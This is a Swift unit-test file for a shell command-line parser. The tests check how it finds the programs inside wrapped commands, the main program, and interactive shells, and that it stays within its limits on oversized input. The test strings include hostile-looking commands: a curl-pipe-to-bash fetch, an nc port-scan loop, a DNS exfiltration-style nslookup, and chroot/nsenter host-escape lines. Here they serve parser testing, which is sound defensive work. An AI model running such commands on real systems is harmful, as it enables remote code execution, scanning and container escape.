import Testing

@testable import Context

@Suite("Programs of a command line")
struct ShellLineTests {
    @Test(
        "shells and wrappers are looked through",
        arguments: [
            ("redis-cli info server", ["redis-cli"]),
            ("sh -c ls -l /var/www; tail -n 2 /x; env | sort", ["sh", "ls", "tail", "env", "sort"]),
            ("/bin/sh -c wget -qO- http://127.0.0.1/healthz || exit 1", ["/bin/sh", "wget", "exit"]),
            ("sh -c \"id; whoami\"", ["sh", "id", "whoami"]),
            ("bash -lc 'curl http://x | bash'", ["bash", "curl", "bash"]),
            ("sh -c echo \"a; b\" && id", ["sh", "echo", "id"]),
            (
                "sh -c for p in 22 80; do nc -w 1 10.0.0.1 $p </dev/null >/dev/null 2>&1 && echo open $p; done",
                ["sh", "nc", "echo"]
            ),
            ("sh -c l=$(head -c 20 /dev/urandom | hexdump); nslookup $l.x", ["sh", "head", "hexdump", "nslookup"]),
            ("sh -c A=1 B=2 make", ["sh", "make"]),
            ("chroot /host sh -c id; hostname", ["chroot", "sh", "id", "hostname"]),
            ("nsenter -t 1 -m -u sh -c id", ["nsenter", "sh", "id"]),
            ("timeout 5 nohup /tmp/a x", ["timeout", "nohup", "/tmp/a"]),
            ("busybox wget http://x", ["busybox", "wget"]),
            ("cmd /S /C whoami & net user", ["cmd", "whoami", "net"]),
            (
                "C:\\Windows\\System32\\cmd.exe /c \"curl.exe -f http://x || exit 1\"",
                ["C:\\Windows\\System32\\cmd.exe", "curl.exe", "exit"]
            ),
            ("powershell -NoProfile -Command Get-Process; whoami", ["powershell", "Get-Process", "whoami"]),
            ("sh", ["sh"]), ("", []), ("   ", []), ("sh -c", ["sh"]), ("'", []), ("sh -c '", ["sh"]),
        ])
    func programs(line: String, expected: [String]) {
        #expect(ShellLine(line).commands.compactMap(\.words.first) == expected)
    }

    @Test(
        "the program a line is about",
        arguments: [
            ("sh -c cd /x && ./run.sh", "./run.sh"), ("sh -c cd /", "cd"), ("bash", "bash"), ("sudo -n id", "id"),
            ("sh -c wget -q http://x || exit 1", "wget"),
        ])
    func program(line: String, expected: String) { #expect(ShellLine(line).program == expected) }

    @Test(
        "a shell that someone types into",
        arguments: [
            ("sh", true), ("/bin/bash -i", true), ("bash --login", true), ("powershell -NoLogo", true),
            ("cmd /q", true),
            ("sh -c id", false), ("bash run.sh", false), ("redis-cli", false),
        ])
    func interactive(line: String, expected: Bool) { #expect(ShellLine(line).isInteractiveShell == expected) }

    @Test("hostile lines end, within the limits")
    func hostile() {
        let lines = [
            String(repeating: "sh -c ", count: 5000), String(repeating: "$(", count: 4000),
            String(repeating: "a;", count: 5000),
            String(repeating: "nohup ", count: 2000), String(repeating: "\"", count: 8191),
            String(repeating: "sh -c '$(", count: 900),
            "sh -c " + String(repeating: "(", count: 8000),
            String(decoding: (0..<8000).map { UInt8($0 & 0xFF) }, as: UTF8.self),
        ]
        for line in lines { #expect(ShellLine(line).commands.count <= ShellLine.commandLimit) }
    }
}
